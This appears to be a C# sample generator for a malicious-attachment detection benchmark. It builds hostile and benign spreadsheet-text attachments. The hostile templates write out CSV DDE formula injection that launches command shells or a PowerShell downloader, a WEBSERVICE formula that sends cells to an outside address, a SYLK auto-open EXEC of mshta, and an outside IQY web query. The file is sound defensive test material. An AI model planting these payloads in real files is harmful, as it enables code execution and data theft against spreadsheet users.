using System.Globalization;
using System.Text;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Documents;

/// <summary>Tables that are text, with formulas that do more than reckon, and ordinary exports.</summary>
internal sealed class TextSheets : ISampleKind
{
    private static readonly AttackType[] Types = [AttackType.Behaviour, AttackType.MaliciousUrl];

    public string Name => "text-sheet";

    public IEnumerable<Sample> Make(Random random)
    {
        var program = random.Pick(["cmd", "powershell", "msexcel", "mshta", "rundll32"]);
        yield return Hostile("program by DDE in a table", "csv", Table(random, $"{random.Pick(["=", "+", "-", "@SUM(1+1)*"])}{program}|'/c {random.Pick(["calc", $"powershell {random.Downloader().Replace('\'', ' ').Replace('"', ' ')}"])}'!{random.Pick(["A0", "A1", random.Word(1, 2)])}"), "sheet-command");
        yield return Hostile("cells sent to an address", "csv", Table(random, $"=WEBSERVICE(\"\"{random.Address()}?q=\"\"&A{random.Next(2, 9)}&B{random.Next(2, 9)})"), "sheet-sends-cells");
        yield return Hostile("SYLK that starts a program", "slk", $"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC(\"{random.Pick(["calc.exe", $"mshta {random.Address(".hta")}"])}\")\r\nC;X1;Y102;EHALT()\r\nE\r\n", "sheet-command");
        yield return Hostile("web query outside", "iqy", $"WEB\r\n1\r\n{random.Address(random.Pick([".dat", ".txt", ".php", ""]))}\r\n\r\n{(random.Chance(0.5) ? "Selection=EntirePage\r\nFormatting=None\r\n" : "")}", "web-query-attachment");

        yield return Benign("table of prices", "csv", Table(random, "-12.50"));
        yield return Benign("table with sums", "csv", Table(random, $"=SUM(B{random.Next(2, 5)}:B{random.Next(6, 9)})"));
        yield return Benign("table with telephone numbers", "csv", Table(random, $"+81-3-{random.Next(1000, 9999)}-{random.Next(1000, 9999)}"));
        yield return Benign("SYLK export", "slk", $"ID;PWXL;N;E\r\nP;PGeneral\r\nB;Y3;X2\r\nC;Y1;X1;K\"{random.Word()}\"\r\nC;X2;K{random.Next(1000)}\r\nC;Y2;X2;K{random.Next(1000)};ER1C2*2\r\nE\r\n");
        yield return Benign("query to a list", "iqy", $"WEB\r\n1\r\nhttps://{random.Word()}.sharepoint.com/sites/{random.Word()}/_vti_bin/owssvr.dll?XMLDATA=1&List={{{random.Word()}}}\r\n\r\nSelection={{{random.Word()}}}\r\nEditWebPage=\r\nFormatting=None\r\nSharePointApplication=https://{random.Word()}.sharepoint.com/_vti_bin\r\nSharePointListName={random.Word()}\r\n");

        Sample Hostile(string name, string extension, string text, params string[] reasons) =>
            Sample.Hostile(name, SampleMail.With(random, SampleFile.Text($"{random.DocumentName()}.{extension}", text, "text/csv")), Types, reasons);

        Sample Benign(string name, string extension, string text) => Sample.Benign(name, SampleMail.With(random, SampleFile.Text($"{random.DocumentName()}.{extension}", text, "text/csv")));
    }

    private static string Table(Random random, string cell)
    {
        var rows = random.Next(3, 30);
        var at = random.Next(rows);
        var table = new StringBuilder("name,count,note\r\n");
        for (var row = 0; row < rows; row++)
        {
            var quoted = cell.Contains(',', StringComparison.Ordinal) || cell.Contains('"', StringComparison.Ordinal) || random.Chance(0.5);
            table.Append(CultureInfo.InvariantCulture, $"{random.Word()},{random.Next(1, 500)},{(row == at ? quoted ? $"\"{cell}\"" : cell : random.Word())}\r\n");
        }

        return table.ToString();
    }
}
